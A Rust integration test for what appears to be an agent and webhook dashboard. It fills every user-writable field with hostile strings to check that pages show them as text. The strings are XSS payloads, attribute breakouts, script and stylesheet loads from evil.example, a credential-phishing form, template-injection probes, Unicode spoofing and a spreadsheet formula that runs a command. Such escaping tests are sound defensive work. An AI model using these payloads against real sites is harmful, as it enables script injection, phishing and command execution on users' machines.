//! Everybody who can write something writes an attack.

use serde_json::{Value, json};
use wiremock::ResponseTemplate;

use super::{is_here_and_on_sqlite, plays};
use crate::dashboard::failed_delivery;
use crate::harness::{Receiver, Server, completion, error};

/// Elements that a page must not have, ways out of attributes and elements, and texts that do something elsewhere. All
/// elements have the attribute that `tests/browser/hostile.py` looks for.
const SET: [&str; 18] = [
    "<script data-evil>alert(1)</script>",
    "</script><script data-evil src=http://evil.example/x.js></script>",
    "--></pre></code></title></textarea></select></style><img data-evil src=x onerror=alert(1)>",
    "<svg data-evil onload=alert(1)><animate data-evil onbegin=alert(1)></svg>",
    "<a data-evil href=\"javascript:alert(1)\">here</a> javascript:alert(1) JaVaScRiPt&colon;alert(1)",
    "\" data-evil autofocus onfocus=\"alert(1)",
    "' data-evil onmouseover='alert(1)",
    "\"><iframe data-evil srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<img data-evil src=http://evil.example/x.png><link data-evil rel=stylesheet href=//evil.example/x.css>",
    "<meta data-evil http-equiv=refresh content=\"0;url=http://evil.example/\"><base data-evil href=//evil.example/>",
    "<form data-evil action=http://evil.example/><input name=csrf><button>Sign in</button></form>",
    "<math data-evil><mtext><table><mglyph><style><!--</style><img data-evil title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "{{7777*7}} ${7777*7} #{7777*7} <%= 7777*7 %> {% include 'base.html' %} [[7777*7]]",
    "&lt;script data-evil&gt;alert(1)&lt;/script&gt; \\u003cscript data-evil\\u003e \\x3cscript data-evil\\x3e",
    "\u{ff1c}script data-evil\u{ff1e} +ADw-script data-evil+AD4- \u{2028}alert(1)\u{2029}",
    "\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}\u{e0041}Z\u{0321}\u{0322}\u{0323}\u{0324}\u{0325}",
    "data:text/html,<script data-evil>alert(1)</script>",
    "=cmd|' /C calc'!A1",
];

/// All of it, for a field without a narrow limit, named so that it is found again.
fn attack(field: &str) -> String {
    format!("[{field}] {} {}", SET.join(" "), "W".repeat(400))
}

/// As much of it as goes into 200 characters.
fn short(field: &str) -> String {
    format!(
        "[{field}] \"'></pre></title><script data-evil>alert(1)</script><img data-evil src=x onerror=alert(1)>{}",
        "W".repeat(80)
    )
}

/// The same in the characters of a header.
fn in_header(field: &str) -> String {
    format!("[{field}] {}", SET.join(" ").replace(|c: char| !c.is_ascii(), "?"))
}

/// What the story has to find on its way through the pages. The rest is hidden, such as webhooks' headers and queries.
const FIELDS: [&str; 21] = [
    "agent name",
    "model",
    "system prompt",
    "prompt template",
    "schema title",
    "schema name",
    "payload",
    "payload name",
    "output",
    "llm error",
    "answering model",
    "refused body",
    "refused header",
    "webhook description",
    "receiver",
    "key name",
    "filter",
    "webhook filter",
    "tenant name",
    "event name",
    "event",
];

#[tokio::test(flavor = "multi_thread")]
async fn whatever_anybody_writes_is_text_on_every_page() {
    if !is_here_and_on_sqlite() {
        return;
    }
    let server = Server::start().await;
    let key = wrote(&server).await;
    plays("hostile", json!({"url": server.url, "key": key, "fields": FIELDS})).await;
}

/// Everybody writes; the key of the admin who looks at it.
async fn wrote(server: &Server) -> Value {
    server.tenant(json!({"tenant_id": "acme", "name": short("tenant name")})).await;
    let agent = json!({
        "name": short("agent name"), "llm_config": {"model": short("model")}, "system_prompt": attack("system prompt"),
        "trigger": {
            "type": "webhook",
            "prompt_template": format!("{{% raw %}}{}{{% endraw %}}", attack("prompt template").replace("{%", "{ %")),
            "filter": format!("payload.text != {}", json!(short("filter"))),
            "payload_schema": {"title": attack("schema title"), "properties": {attack("schema name"): {"type": "string"}}},
        },
    });
    let agent = server.agent_with(agent).await;
    let mut answer = crate::harness::completion_body(&attack("output"));
    answer["model"] = json!(short("answering model"));
    server.llm.answers(ResponseTemplate::new(200).set_body_json(answer));
    let payload =
        json!({"text": attack("payload"), (attack("payload name")): [attack("payload")]}).to_string();
    agent.run(server, &payload).await;
    server.llm.answers(completion(&json!({"text": attack("output")}).to_string()));
    agent.run(server, json!({"text": "JSON comes back"}).to_string()).await;
    server.llm.answers(error(400, "BadRequestError", &attack("llm error")));
    agent.run(server, json!({"text": "nothing comes back"}).to_string()).await;
    let wrong = agent.with_secret(&json!("d3Jvbmctd3Jvbmctd3Jvbmctd3Jvbmctd3Jvbmc="));
    let refused = wrong.post_with(attack("refused body"), &[("x-evil", &in_header("refused header"))]).await;
    assert_eq!(refused.status, 401);

    let receiver = Receiver::start().await;
    receiver.answers(ResponseTemplate::new(500).set_body_string(attack("receiver")));
    let fields = json!({
        "url": format!("{}?to=[webhook-url]'data-evil='javascript:alert(1)", receiver.url()),
        "description": short("webhook description"), "headers": {"x-evil": in_header("event header")},
        "filter": format!("event.data.text != {}", json!(short("webhook filter"))),
    });
    failed_delivery(server, &receiver, fields).await;
    let event = json!({"tenant_id": "acme", "event_type": "custom.evil", "data": {(attack("event name")): attack("event")}});
    server.expect(202, "POST", "/api/v1/events", Some(event)).await;
    let key = json!({"role": "admin", "name": short("key name")});
    server.expect(201, "POST", "/api/v1/keys", Some(key)).await["key"].clone()
}
